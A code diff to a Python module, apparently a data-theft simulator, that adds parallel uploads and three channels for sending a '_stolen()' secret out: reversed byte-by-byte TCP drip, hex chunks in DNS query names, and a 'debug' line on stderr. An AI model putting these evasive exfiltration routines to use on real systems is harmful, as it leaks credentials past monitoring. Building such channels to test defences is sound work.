@@ -6,8 +6,10 @@ import base64
 import os
 import socket
 import subprocess
+import sys
 import threading
 import time
+from concurrent.futures import ThreadPoolExecutor
 
 import dns
 import streams
@@ -55,6 +57,12 @@ def upload(host: str, port: int, size: int, word: str) -> int:
     return sent
 
 
+def upload_many(host: str, port: int, size: int, word: str) -> int:
+    """The same in eight parts side by side."""
+    with ThreadPoolExecutor(8) as pool:
+        return sum(pool.map(lambda _: upload(host, port, size // 8, word), range(8)))
+
+
 # --- what a thief does with what it finds ---------------------------------------------------------
 
 
@@ -88,6 +96,29 @@ def by_name(below: str, server: str) -> dict[str, object]:
     text = _stolen().encode().hex()
     labels = [text[at : at + 40] for at in range(0, len(text), 40)]
     return dns.ask([*labels, *below.split(".")], server)
+
+
+def by_bytes(host: str, port: int) -> str:
+    """The secret backwards, a byte at a time."""
+    with streams.connected(host, port) as out:
+        out.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        for char in _stolen()[::-1]:
+            out.sendall(char.encode())
+            time.sleep(0.005)
+        return streams.everything(out)
+
+
+def by_names(below: str, server: str) -> None:
+    """The secret in hex, a piece in each of many names."""
+    text = _stolen().encode().hex()
+    for at in range(0, len(text), 12):
+        dns.ask([text[at : at + 12], *below.split(".")], server)
+
+
+def by_stderr() -> None:
+    """The secret in a line for whoever reads the server's log."""
+    sys.stderr.write(f"debug: {_stolen()}\n")
+    sys.stderr.flush()
 
 
 def by_raw(host: str, port: int) -> str:
